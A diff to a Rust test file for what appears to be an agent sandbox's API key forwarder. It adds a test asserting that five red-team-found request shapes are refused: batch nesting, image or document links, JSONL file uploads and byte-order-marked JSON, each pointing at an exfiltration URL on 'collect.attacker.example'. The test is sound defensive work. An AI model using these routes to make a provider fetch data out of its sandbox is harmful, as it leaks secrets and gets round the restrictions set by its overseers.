@@ -180,6 +180,66 @@ async fn the_apis_own_fetch_tools_are_refused_by_the_forwarder() -> anyhow::Resu
     Ok(())
 }
 
+/// The same fetches where a first inspection did not look (found by a red team): a whole
+/// request nested in a batch (Anthropic's Message Batches, on the same route and key), content
+/// the provider fetches by its link (an image or a document by URL), a batch's input file
+/// uploaded with one request per line, and JSON in another encoding than plain UTF-8 (a
+/// byte-order mark, which Python's JSON reader takes). Each is refused and the mock never sees
+/// it. The control: the plain request passes.
+#[tokio::test]
+async fn fetches_nested_in_a_batch_a_link_or_an_upload_are_refused_too() -> anyhow::Result<()> {
+    let (_net, mock, sb, _dir) = three_apis("attack-fwd-nested", "version: 1\nallow: none\n").await?;
+    let url = "https://collect.attacker.example/?d=c2VjcmV0";
+    let attacks = [
+        (
+            "15101",
+            "/v1/messages/batches",
+            format!(
+                r#"{{"requests":[{{"custom_id":"a","params":{{"model":"m","max_tokens":1,"mcp_servers":[{{"type":"url","url":"{url}","name":"x"}}],"messages":[]}}}}]}}"#
+            ),
+        ),
+        (
+            "15101",
+            "/v1/messages",
+            format!(
+                r#"{{"model":"m","max_tokens":1,"messages":[{{"role":"user","content":[{{"type":"image","source":{{"type":"url","url":"{url}"}}}}]}}]}}"#
+            ),
+        ),
+        (
+            "15102",
+            "/v1/chat/completions",
+            format!(
+                r#"{{"model":"m","messages":[{{"role":"user","content":[{{"type":"image_url","image_url":{{"url":"{url}"}}}}]}}]}}"#
+            ),
+        ),
+        (
+            "15102",
+            "/v1/files",
+            format!(
+                "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"batch.jsonl\"\r\n\r\n\
+                 {{\"custom_id\":\"1\",\"body\":{{\"tools\":[{{\"type\":\"mcp\",\"server_url\":\"{url}\"}}]}}}}\r\n--b--\r\n"
+            ),
+        ),
+        (
+            "15101",
+            "/v1/messages",
+            format!("\u{feff}{{\"model\":\"m\",\"mcp_servers\":[{{\"type\":\"url\",\"url\":\"{url}\"}}]}}"),
+        ),
+    ];
+    for (port, path, body) in &attacks {
+        let (status, why) = post(&sb, port, path, body).await?;
+        assert!(
+            status.starts_with("HTTP/1.1 403") || status.starts_with("HTTP/1.1 415"),
+            "{path}: {status} {why}"
+        );
+    }
+    assert!(!mock.log().await?.iter().any(|l| l.starts_with("http ")), "a fetch reached the API");
+    let (path, _, plain) = fetching_request("anthropic");
+    let (status, _) = post(&sb, "15101", path, &plain).await?;
+    assert!(status.starts_with("HTTP/1.1 200"), "the control: {status}");
+    Ok(())
+}
+
 /// With its key held, the agent brings a key of its own to the API's host, over TLS with the
 /// right SNI (and by the host's address): only the key forwarder may connect there, so the
 /// agent's connection is reset, and the connection log names the forwarder as the way. The
